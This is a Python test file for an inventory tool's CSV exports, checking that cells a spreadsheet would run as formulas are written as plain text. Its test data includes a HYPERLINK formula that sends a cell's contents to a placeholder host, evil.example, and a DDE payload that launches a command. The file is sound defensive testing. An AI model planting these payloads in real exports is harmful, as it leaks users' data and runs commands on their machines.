"""Every CSV LiveStock writes for a person opens in a spreadsheet without running a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

from cli.review_export import write_csv
from core.common.csv_safety import neutralise_cell
from core.planning.replenish import PlanLine
from dashboard import planner_charts

ROOT = Path(__file__).resolve().parents[2]
LINK = '=HYPERLINK("http://evil.example/?"&A2,"Open")'


@pytest.mark.parametrize("text", [
    LINK, "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "=",
    "=cmd|' /C calc'!A0",
])
def test_text_a_spreadsheet_would_run_is_written_as_text(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", [
    -3, -1.5, 0, "-12.5", "+3", "1e-4", "-.5", "Desk Lamp", "a=b", "LED-10", "", None,
    "2027-01-05",
])
def test_numbers_and_ordinary_text_are_left_as_they_are(value: object) -> None:
    assert neutralise_cell(value) == value


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_planners_csv_download_writes_a_formula_sku_as_text() -> None:
    line = PlanLine("=1+1", "-W", "daily", 40.0, 90.0, -50.0, 120, "sea", date(2027, 1, 5),
                    310.5, "EUR")

    (header, row) = cells(planner_charts.plan_csv([line]))

    assert header[0] == "sku"
    # The plan's own fields first; the columns the plan gained later (origin, shares, flags)
    # are empty for this bare line.
    assert row[:11] == ["'=1+1", "'-W", "daily", "40.0", "90.0", "-50.0", "120", "sea",
                        "2027-01-05", "310.5", "EUR"]


def test_review_csv_tables_write_formulas_as_text_and_numbers_as_numbers(
        tmp_path: Path) -> None:
    products = pd.DataFrame({"sku": ["+SKU", "LAMP"], "name": [LINK, "Desk Lamp"],
                             "units": [-2, 3], "revenue": [-9.5, None], "=1+1": ["-", "-3"]})

    (written,) = write_csv(tmp_path, {"review_products.csv": products})

    assert cells(written.read_text(encoding="utf-8")) == [
        ["sku", "name", "units", "revenue", "'=1+1"],
        ["'+SKU", "'" + LINK, "-2", "-9.5", "'-"],
        ["LAMP", "Desk Lamp", "3", "", "-3"]]


def test_every_module_that_writes_a_csv_for_people_neutralises_its_formulas() -> None:
    writers = [path for folder in ("cli", "dashboard", "receiver")
               for path in (ROOT / folder).rglob("*.py")
               if re.search(r"\.to_csv\(|csv\.(writer|DictWriter)\(", path.read_text())]

    assert writers, "no CSV writer found: has the export moved?"
    assert [str(p.relative_to(ROOT)) for p in writers
            if "neutralise_cell" not in p.read_text()] == []
